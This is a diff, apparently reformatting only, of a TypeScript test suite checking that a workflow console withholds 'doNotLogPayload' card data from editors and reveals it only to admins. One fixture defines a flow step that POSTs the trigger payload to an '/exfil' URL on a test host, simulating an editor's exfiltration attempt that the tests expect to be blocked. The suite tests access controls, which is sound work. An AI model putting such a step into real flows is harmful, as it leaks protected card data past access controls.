@@ -27,10 +27,21 @@ const people: Record<'vera' | 'eddie' | 'otto' | 'ada', ConsolePage> = {} as nev
 
 const hidden = { doNotLogPayload: true };
 const sync = { responseMode: 'WAIT_FOR_RESPONSE_STEP', syncTimeoutSeconds: 10 };
-const echo = { respond: { description: 'Echo the card', statusCode: 200, body: '${ {"echo": Trigger.Payload.card} }' } };
+const echo = {
+  respond: { description: 'Echo the card', statusCode: 200, body: '${ {"echo": Trigger.Payload.card} }' },
+};
 const failing = [{ fail: { description: 'Refunds are broken on v1', message: 'not yet' } }];
 /** What an editor publishes to read a withheld payload: send it to a host of their own. */
-const leaking = (url: string) => [{ httpRequest: { description: 'Send the payload out', method: 'POST', url: `${url}/exfil`, body: '${Trigger.PayloadJson}' } }];
+const leaking = (url: string) => [
+  {
+    httpRequest: {
+      description: 'Send the payload out',
+      method: 'POST',
+      url: `${url}/exfil`,
+      body: '${Trigger.PayloadJson}',
+    },
+  },
+];
 
 test.before(async () => {
   const port = await findFreePort();
@@ -89,7 +100,10 @@ async function closed(executionId: string): Promise<void> {
 
 /** The execution as a person's page shows it, once the caller's answer is known. */
 async function shown(page: ConsolePage, executionId: string): Promise<ConsoleAnswer> {
-  return eventually(() => executions(page, 'GetExecution', { executionId }), { until: (answer) => answer.json.answer !== undefined, what: 'the caller answer on the page' });
+  return eventually(() => executions(page, 'GetExecution', { executionId }), {
+    until: (answer) => answer.json.answer !== undefined,
+    what: 'the caller answer on the page',
+  });
 }
 
 async function reveals(executionId: string) {
@@ -115,7 +129,10 @@ test.serial("the caller's answer of a doNotLogPayload execution, and its late an
     t.like(page.json.answer, { outcome: 'RESPONDED', statusCode: 200 }, name);
     t.false(JSON.stringify(page.json).includes(value), `${name} sees no echo of the payload`);
   }
-  const revealed = await executions(people.ada, 'RevealExecutionPayload', { executionId: answered.executionId, company: COMPANY });
+  const revealed = await executions(people.ada, 'RevealExecutionPayload', {
+    executionId: answered.executionId,
+    company: COMPANY,
+  });
   t.is(revealed.status, 200, JSON.stringify(revealed.json));
   t.is(JSON.parse(revealed.json.payloadJson as string).card, value);
   t.is(JSON.parse((revealed.json.answer as { body: string }).body).echo, value, 'the admin sees the answer it got');
@@ -130,7 +147,10 @@ test.serial("the caller's answer of a doNotLogPayload execution, and its late an
   t.like(page.json.answer, { outcome: 'SYNC_TIMEOUT', defaultResponse: true });
   t.truthy((page.json.answer as { lateAnswer?: unknown }).lateAnswer, 'the late answer is there');
   t.false(JSON.stringify(page.json).includes(lateValue), 'without its body');
-  const lateRevealed = await executions(people.ada, 'RevealExecutionPayload', { executionId: waited.executionId, company: COMPANY });
+  const lateRevealed = await executions(people.ada, 'RevealExecutionPayload', {
+    executionId: waited.executionId,
+    company: COMPANY,
+  });
   t.is(JSON.parse((lateRevealed.json.answer as { lateAnswer: { body: string } }).lateAnswer.body).echo, lateValue);
 });
 
@@ -140,7 +160,10 @@ test.serial('an editor cannot read a withheld payload through a version they pub
   t.is(failed.status, 200, failed.text);
   const original = failed.executionId!;
   await closed(original);
-  const published = await people.eddie.flowAdmin('ApplyFlow', { flow: flow(COMPANY, 'refunds', { activity: 'refunds.run', ...hidden }, leaking(target.url)), publish: true });
+  const published = await people.eddie.flowAdmin('ApplyFlow', {
+    flow: flow(COMPANY, 'refunds', { activity: 'refunds.run', ...hidden }, leaking(target.url)),
+    publish: true,
+  });
   t.is(published.status, 200, JSON.stringify(published.json));
 
   for (const name of ['eddie', 'otto'] as const) {
@@ -149,17 +172,36 @@ test.serial('an editor cannot read a withheld payload through a version they pub
     t.regex(refused.json.message as string, /does not log its payload.*only an admin of company "Vault Co".*Re-run it on its own version \(sameVersion/);
     t.false((refused.json.message as string).includes(value));
   }
-  const listed = await eventually(() => executions(people.eddie, 'RerunExecutions', { company: COMPANY, activity: 'refunds.run', statuses: ['FAILED'], dryRun: true }), {
-    until: (answer) => answer.json.matched === 1,
-    what: 'the failed refund in the list',
-  });
+  const listed = await eventually(
+    () =>
+      executions(people.eddie, 'RerunExecutions', {
+        company: COMPANY,
+        activity: 'refunds.run',
+        statuses: ['FAILED'],
+        dryRun: true,
+      }),
+    {
+      until: (answer) => answer.json.matched === 1,
+      what: 'the failed refund in the list',
+    },
+  );
   t.true((listed.json.executions as { payloadWithheld: boolean }[])[0]!.payloadWithheld, 'the list tells the console it is withheld');
-  const bulk = await executions(people.eddie, 'RerunExecutions', { company: COMPANY, activity: 'refunds.run', statuses: ['FAILED'] });
+  const bulk = await executions(people.eddie, 'RerunExecutions', {
+    company: COMPANY,
+    activity: 'refunds.run',
+    statuses: ['FAILED'],
+  });
   t.is(bulk.status, 200, JSON.stringify(bulk.json));
   t.deepEqual(bulk.json.started ?? [], []);
-  t.like((bulk.json.skipped as { originalExecutionId: string; reason: string }[])[0], { originalExecutionId: original });
+  t.like((bulk.json.skipped as { originalExecutionId: string; reason: string }[])[0], {
+    originalExecutionId: original,
+  });
   t.regex((bulk.json.skipped as { reason: string }[])[0]!.reason, /only an admin of company/);
-  const pinned = await executions(people.eddie, 'RerunExecution', { executionId: original, company: COMPANY, sameVersion: true });
+  const pinned = await executions(people.eddie, 'RerunExecution', {
+    executionId: original,
+    company: COMPANY,
+    sameVersion: true,
+  });
   t.is(pinned.status, 200, JSON.stringify(pinned.json));
   t.is((pinned.json.rerun as { flowVersion: number }).flowVersion, 1, 'its own version is open to editors');
   await closed((pinned.json.rerun as { executionId: string }).executionId);
@@ -209,7 +251,10 @@ test.serial('an admin decrypts the payload of a running execution at once, witho
   const running = await call('cards.slow', secrets.slow!, value);
   t.is(running.status, 200, running.text);
   const asked = Date.now();
-  const revealed = await executions(people.ada, 'RevealExecutionPayload', { executionId: running.executionId, company: COMPANY });
+  const revealed = await executions(people.ada, 'RevealExecutionPayload', {
+    executionId: running.executionId,
+    company: COMPANY,
+  });
   t.is(revealed.status, 200, JSON.stringify(revealed.json));
   t.true(Date.now() - asked < 10_000, `answered in ${Date.now() - asked} ms`);
   t.is(JSON.parse(revealed.json.payloadJson as string).card, value);
@@ -222,7 +267,10 @@ test.serial('with no worker to answer, a reveal ends at its deadline with UNAVAI
   t.is(running.status, 200, running.text);
   await stack.worker!.close();
   const asked = Date.now();
-  const revealed = await executions(people.ada, 'RevealExecutionPayload', { executionId: running.executionId, company: COMPANY });
+  const revealed = await executions(people.ada, 'RevealExecutionPayload', {
+    executionId: running.executionId,
+    company: COMPANY,
+  });
   t.is(revealed.status, 503, JSON.stringify(revealed.json));
   t.like(revealed.json, { code: 'unavailable' });
   t.regex(revealed.json.message as string, /need a running worker to answer, and none did within 15 s/);
